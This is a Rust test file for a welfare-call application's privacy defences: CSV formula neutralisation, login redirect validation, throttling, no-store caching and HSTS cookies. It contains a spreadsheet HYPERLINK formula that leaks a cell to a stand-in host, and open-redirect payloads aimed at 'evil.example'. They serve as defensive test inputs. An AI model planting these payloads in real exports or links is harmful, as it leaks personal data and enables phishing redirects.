//! The privacy defences of issue 14: CSV cells that a spreadsheet would run as formulas,
//! the `next` of the login form, the login throttling key, `Cache-Control: no-store`.

use lien::domain::Role;

use crate::cli::{lien, run};
use crate::helpers::{execute, form_value, spawn_app, Backend, TEST_PASSWORD};
use crate::on_both_backends;

on_both_backends!(
    rejected_rows_csv_neutralises_formulas,
    not_reached_csv_neutralises_formulas,
    assignments_csv_neutralises_formulas,
    login_with_a_hostile_next_goes_home,
    login_attempts_count_one_account_however_typed,
    personal_answers_are_not_stored_by_caches,
    https_sites_get_hsts_and_host_only_cookies,
);

/// A name that Excel would turn into a live link leaking the neighbouring cell.
const FORMULA: &str = "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")";

fn records(text: &str) -> Vec<csv::StringRecord> {
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap())
        .collect()
}

async fn rejected_rows_csv_neutralises_formulas(backend: Backend) {
    use crate::import_pages::{decide, demo, upload};
    let app = crate::helpers::spawn_app(backend).await;
    app.login_as(Role::Coordinator).await;
    let mut file = demo("beneficiaries.csv");
    // No phone: the row is refused, and its raw cells go to the rejected-rows CSV.
    let quoted = FORMULA.replace('"', "\"\"");
    file.extend_from_slice(
        format!("80-0009999;\"{quoted}\";@Numero;;;1 rue X;80000;Amiens;01/01/1940;APA;fr;;;\n")
            .as_bytes(),
    );
    let preview = upload(&app, "beneficiaries", "beneficiaires.csv", file).await;
    let html = preview.text().await.unwrap();
    let confirmed = decide(&app, &html, "confirm").await;
    assert_eq!(confirmed.status(), 303);
    let location = confirmed.headers()["location"]
        .to_str()
        .unwrap()
        .to_string();
    let csv = app.get(&format!("{location}/rejected.csv")).await;
    assert_eq!(csv.status(), 200);
    let rows = records(&csv.text().await.unwrap());
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(&rows[0][2], format!("'{FORMULA}"));
    assert_eq!(&rows[0][3], "'@Numero");
    assert_eq!(&rows[0][1], "80-0009999");
}

async fn not_reached_csv_neutralises_formulas(backend: Backend) {
    let (app, week, _) = crate::report::called_app(backend).await;
    let sql = format!(
        "UPDATE beneficiaries SET last_name = '{FORMULA}', first_name = '-Jean', \
         commune = '+Amiens'"
    );
    execute(&app.store, &sql).await.unwrap();
    app.login_as(Role::Coordinator).await;
    let response = app
        .get(&format!(
            "/coordination/week/not-reached.csv?week={}",
            week.previous()
        ))
        .await;
    assert_eq!(response.status(), 200);
    let rows = records(&response.text().await.unwrap());
    assert!(!rows.is_empty());
    for r in &rows {
        assert_eq!(&r[1], format!("'{FORMULA}"));
        assert_eq!(&r[2], "'-Jean");
        assert_eq!(&r[6], "'+Amiens");
        // (A number reported wrong since is left out.)
        assert!(
            r[3].is_empty() || r[3].starts_with('+'),
            "phones stay numbers: {r:?}"
        );
    }
}

async fn assignments_csv_neutralises_formulas(backend: Backend) {
    use lien::domain::IsoWeek;
    use lien::store::PlanMode;
    let (t, campaign) = crate::planning::demo_store(backend).await;
    let sql = format!("UPDATE beneficiaries SET external_ref = '{FORMULA}' || external_ref");
    execute(&t.store, &sql).await.unwrap();
    let week = IsoWeek::parse("2026-W48").unwrap();
    t.store
        .plan_week(&campaign, week, PlanMode::Plan, false)
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    // Through the command line, exactly as a coordinator runs it.
    let out = run(lien(dir.path()).env("DATABASE_URL", &t.db.url).args([
        "assignments",
        "--week",
        "2026-W48",
        "--csv",
    ]));
    assert!(out.status.success());
    let rows = records(&String::from_utf8(out.stdout).unwrap());
    assert!(!rows.is_empty());
    for r in &rows {
        assert!(r[0].starts_with(&format!("'{FORMULA}")), "{r:?}");
    }
}

/// Posts the login form with this email, password and `next`.
async fn login_with(
    app: &crate::helpers::TestApp,
    email: &str,
    password: &str,
    next: &str,
) -> reqwest::Response {
    let form = app.get("/login").await.text().await.unwrap();
    let csrf = form_value(&form, "csrf");
    app.client
        .post(format!("{}/login", app.address))
        .form(&[
            ("email", email),
            ("password", password),
            ("csrf", &csrf),
            ("next", next),
        ])
        .send()
        .await
        .unwrap()
}

async fn login_with_a_hostile_next_goes_home(backend: Backend) {
    let app = spawn_app(backend).await;
    app.create_user(Role::Coordinator, "coord@test.example.org")
        .await;
    for next in [
        "/%09/evil.example",
        "/%0a/evil.example",
        "/%5Cevil.example",
        "//evil.example",
    ] {
        // The login page does not carry it into its form either.
        let page = app
            .get(&format!("/login?next={}", next.replace('%', "%25")))
            .await
            .text()
            .await
            .unwrap();
        assert!(!page.contains("evil.example"), "{next}");
        let response = login_with(&app, "coord@test.example.org", TEST_PASSWORD, next).await;
        assert_eq!(response.status(), 303, "{next}");
        assert_eq!(
            response.headers()["location"],
            "/coordination/imports",
            "{next}"
        );
        app.logout().await;
    }
    // A path of the site is still followed.
    let response = login_with(
        &app,
        "coord@test.example.org",
        TEST_PASSWORD,
        "/coordination/week",
    )
    .await;
    assert_eq!(response.headers()["location"], "/coordination/week");
}

async fn login_attempts_count_one_account_however_typed(backend: Backend) {
    let app = spawn_app(backend).await;
    app.create_user(Role::Coordinator, "a@x.fr").await;
    for email in ["a@x.fr", " a@x.fr", "A@X.FR ", "a@x.fr", " a@x.fr"] {
        let response = login_with(&app, email, "wrong password", "").await;
        assert_eq!(response.status(), 401, "{email:?}");
    }
    // The sixth try, even with the right password and yet another spelling, waits.
    let response = login_with(&app, "A@X.FR ", TEST_PASSWORD, "").await;
    assert_eq!(response.status(), 429);
    let response = login_with(&app, "\ta@x.fr", TEST_PASSWORD, "").await;
    assert_eq!(response.status(), 429);
}

async fn personal_answers_are_not_stored_by_caches(backend: Backend) {
    let (app, email) = crate::helpers::planned_demo_app(backend).await;
    let no_store = |r: &reqwest::Response| {
        r.headers()
            .get("cache-control")
            .map(|v| v.to_str().unwrap().to_string())
    };
    let anonymous = app.get("/login").await;
    assert_eq!(
        no_store(&anonymous).as_deref(),
        Some("no-store"),
        "login page"
    );
    let logged = login_with(&app, &email, TEST_PASSWORD, "").await;
    assert_eq!(logged.status(), 303);
    assert_eq!(
        no_store(&logged).as_deref(),
        Some("no-store"),
        "login answer"
    );
    // A page with names and phones, an API answer, error pages.
    let queue = app.get("/appels").await;
    assert_eq!(queue.status(), 200);
    assert_eq!(no_store(&queue).as_deref(), Some("no-store"), "queue page");
    let api = app.get("/api/me/queue").await;
    assert_eq!(api.status(), 200);
    assert_eq!(no_store(&api).as_deref(), Some("no-store"), "API");
    let missing = app.get("/appels/99999999").await;
    assert_eq!(missing.status(), 404);
    assert_eq!(
        no_store(&missing).as_deref(),
        Some("no-store"),
        "error page"
    );
    let forbidden = app.get("/coordination/week").await;
    assert_eq!(forbidden.status(), 403);
    assert_eq!(
        no_store(&forbidden).as_deref(),
        Some("no-store"),
        "403 page"
    );
    let nowhere = app.get("/nowhere").await;
    assert_eq!(nowhere.status(), 404);
    assert_eq!(no_store(&nowhere).as_deref(), Some("no-store"), "no route");
    // The stylesheet keeps its caching.
    let css = app.get("/static/lien.css").await;
    assert_eq!(css.status(), 200);
    assert_eq!(no_store(&css).as_deref(), Some("public, max-age=3600"));
}

/// The `Set-Cookie` headers and the HSTS header of an API login.
async fn api_login_headers(app: &crate::helpers::TestApp) -> (Vec<String>, Option<String>) {
    let response = app
        .client
        .post(format!("{}/api/session", app.address))
        .json(&serde_json::json!({"email": "c@x.fr", "password": TEST_PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let cookies = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .collect();
    let hsts = response
        .headers()
        .get("strict-transport-security")
        .map(|v| v.to_str().unwrap().to_string());
    (cookies, hsts)
}

async fn https_sites_get_hsts_and_host_only_cookies(backend: Backend) {
    let app = crate::helpers::spawn_app_with(backend, |s| {
        s.base_url = "https://lien.example.org/".parse().unwrap();
    })
    .await;
    app.create_user(Role::Caller, "c@x.fr").await;
    let (cookies, hsts) = api_login_headers(&app).await;
    assert_eq!(hsts.as_deref(), Some("max-age=63072000"));
    assert!(
        cookies.iter().any(|c| c.starts_with("__Host-lien_session=")
            && c.contains("Secure")
            && c.contains("Path=/")
            && !c.contains("Domain")),
        "{cookies:?}"
    );
    let login = app.get("/login").await;
    assert!(login.headers().contains_key("strict-transport-security"));
    assert!(login.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .starts_with("__Host-lien_login_csrf="));
    // On http, as before: no HSTS, plain names.
    let app = spawn_app(backend).await;
    app.create_user(Role::Caller, "c@x.fr").await;
    let (cookies, hsts) = api_login_headers(&app).await;
    assert_eq!(hsts, None);
    assert!(
        cookies.iter().any(|c| c.starts_with("lien_session=")),
        "{cookies:?}"
    );
}
